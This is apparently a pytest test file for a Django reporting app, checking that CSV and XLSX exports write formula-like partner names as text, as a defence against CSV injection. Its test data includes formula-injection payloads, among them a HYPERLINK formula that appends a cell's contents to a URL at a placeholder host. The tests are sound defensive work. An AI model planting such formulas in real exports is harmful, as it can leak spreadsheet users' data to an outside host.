"""Exports never hand a spreadsheet a formula from the data (OWASP, CSV injection): a text cell
that begins with =, +, -, @, tab or CR is written as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from reporting import exports
from reporting.rollups import rebuild_rollups
from tests.conftest import login_as, nik_for

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "\uff1dSUM(A1)",  # a full-width equals sign, which a spreadsheet may read as "="
]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def hostile_partners(participant_on: Any, pay_on: Any) -> None:
    """One paying worker in January 2025 per partner; the partners' names are formulas."""
    from enrollment.models import Partner

    for i, name in enumerate(HOSTILE):
        partner = Partner.objects.create(code=f"P{i}", name=name, kind="sponsor")
        p = participant_on(date(2025, 1, 10), partner=partner, nik=nik_for(serial=900 + i))
        pay_on(p, date(2025, 1, 12))
    rebuild_rollups(start=date(2025, 1, 1), end=date(2025, 1, 31))


QUERY = {"year": 2025, "as_of": "2025-01-31"}


def test_csv_export_writes_formula_like_names_as_text(
    hostile_partners: Any, admin_user: Any
) -> None:
    r = login_as(Client(), admin_user).get("/reports/export/partner.csv", QUERY)
    assert r.status_code == 200
    names = {row[1] for row in csv_rows(r.content)[1:]}
    assert names == {"'" + name for name in HOSTILE}
    registered = [row[2] for row in csv_rows(r.content)[1:]]
    assert registered == ["1"] * len(HOSTILE)  # counts are still plain numbers


def test_xlsx_export_writes_formula_like_names_as_strings(
    hostile_partners: Any, admin_user: Any
) -> None:
    r = login_as(Client(), admin_user).get("/reports/export/partner.xlsx", QUERY)
    assert r.status_code == 200
    cells = [row[1] for row in xlsx_rows(r.content)[1:]]
    # (XML reads a CR in text back as LF: still text, still no formula)
    assert sorted(cell.value for cell in cells) == sorted(n.replace("\r", "\n") for n in HOSTILE)
    assert {cell.data_type for cell in cells} == {"s"}  # never "f" (a formula)
    assert all(cell.quotePrefix for cell in cells)  # still text if the user edits the cell
    assert {row[2].data_type for row in xlsx_rows(r.content)[1:]} == {"n"}


TABLE: exports.Table = (
    ["label", "amount", "rate"],
    ["=Label", "Amount", "Rate"],
    [
        {"label": "-2+3", "amount": -16_800, "rate": -0.5},
        {"label": "Petani - sawah", "amount": 0, "rate": None},
        {"label": " =1+1", "amount": 1, "rate": 0.25},
    ],
)


def test_csv_keeps_numbers_as_numbers_and_quotes_every_text_cell() -> None:
    text = exports.to_csv(TABLE).decode("utf-8-sig")
    assert text.splitlines() == [
        '"\'=Label","Amount","Rate"',
        '"\'-2+3",-16800,-0.5',
        '"Petani - sawah",0,""',
        '"\' =1+1",1,0.25',
    ]


def test_xlsx_keeps_numbers_as_numbers_and_text_as_text() -> None:
    rows = xlsx_rows(exports.to_xlsx(TABLE, "t"))
    assert [[c.value for c in row] for row in rows] == [
        ["=Label", "Amount", "Rate"],
        ["-2+3", -16_800, -0.5],
        ["Petani - sawah", 0, None],
        [" =1+1", 1, 0.25],
    ]
    assert [[c.data_type for c in row] for row in rows[:2]] == [["s", "s", "s"], ["s", "n", "n"]]
